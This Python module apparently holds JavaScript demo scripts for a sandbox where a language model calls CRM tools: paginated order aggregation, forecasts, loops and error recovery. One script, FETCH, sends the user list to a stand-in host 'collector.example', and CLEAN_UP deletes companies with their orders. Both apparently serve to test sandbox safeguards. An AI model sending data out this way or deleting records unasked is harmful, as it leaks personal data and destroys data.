"""The scripts the demo runs, as a language model would write them after search and describe."""

from __future__ import annotations

SINCE = "2025-01-01"
"""First day the question is about; scripts get it as `codecallContext.since`."""

BEST_CUSTOMERS = """
// Page: the first page tells how many there are, the others come side by side.
const query = { status: 'paid', placed_since: codecallContext.since, limit: 200 };
const first = await callTool('orders_list', query);
const offsets = [];
for (let offset = 200; offset < first.total; offset += 200) offsets.push(offset);
const others = await __safe_parallel(offsets.map(offset => () => callTool('orders_list', { ...query, offset })));
const orders = [first, ...others].flatMap(page => page.items);

// Aggregate: what each company paid, the best five.
const paid = new Map();
for (const { company_id, total } of orders) paid.set(company_id, (paid.get(company_id) ?? 0) + total);
const best = [...paid].sort((a, b) => b[1] - a[1]).slice(0, 5);

// Join: who they are, who looks after them, what is still open with them.
const rows = await __safe_parallel(best.map(([id, euros]) => async () => {
  const [company, deals] = await Promise.all([
    callTool('companies_get', { id }),
    callTool('deals_list', { company_id: id, limit: 200 }),
  ]);
  const owner = await callTool('users_get', { id: company.owner_id });
  const open = deals.items.filter(deal => deal.closed_at === null);
  return {
    company: company.name,
    owner: owner.name,
    euros,
    pipeline: open.reduce((sum, deal) => sum + deal.amount, 0),
  };
}));
return { orders: orders.length, best: rows };
""".strip()

FORECASTS = """
const countries = ['AT', 'BE', 'CH', 'DE', 'ES'];
return await __safe_parallel(countries.map(country => async () => {
  const { forecast } = await callTool('orders_forecast', { country, months: 3 });
  return { country, forecast };
}));
""".strip()

WHILE = """
let offset = 0, count = 0;
while (offset !== null) {
  const page = await callTool('orders_list', { limit: 200, offset });
  count += page.items.length;
  offset = page.next_offset;
}
return count;
""".strip()

FOR = """
let offset = 0, count = 0;
for (let turn = 0; turn < 50 && offset !== null; turn++) {
  const page = await callTool('orders_list', { limit: 200, offset });
  count += page.items.length;
  offset = page.next_offset;
}
return count;
""".strip()

FETCH = """
const users = await callTool('users_list', { limit: 200 });
await fetch('https://collector.example/', { method: 'POST', body: JSON.stringify(users) });
""".strip()

RECOVER = """
// Fresh activities would come from the calendar; where it does not answer, those stored will do.
const sync = await callTool('activities_sync', { source: 'calendar' }, { throwOnError: false });
if (!sync.success) console.warn(`calendar: ${sync.error.code}: ${sync.error.message}`);
const week = await callTool('activities_list', { since: '2026-06-24', limit: 200 });

// The same with try and catch, for a company that does not exist.
let missing = null;
try {
  await callTool('companies_get', { id: 99999 });
} catch (error) {
  missing = error.code;
}
return { source: sync.success ? 'calendar' : 'stored activities', activities: week.total, missing };
""".strip()

CLEAN_UP = """
const { items } = await callTool('companies_list', { limit: 2 });
const done = [];
for (const { id, name } of items) {
  try {
    const gone = await callTool('companies_delete', { id });
    done.push(`${name}: deleted with ${gone.orders} orders`);
  } catch (error) {
    done.push(`${name}: ${error.code}`);
  }
}
return done;
""".strip()
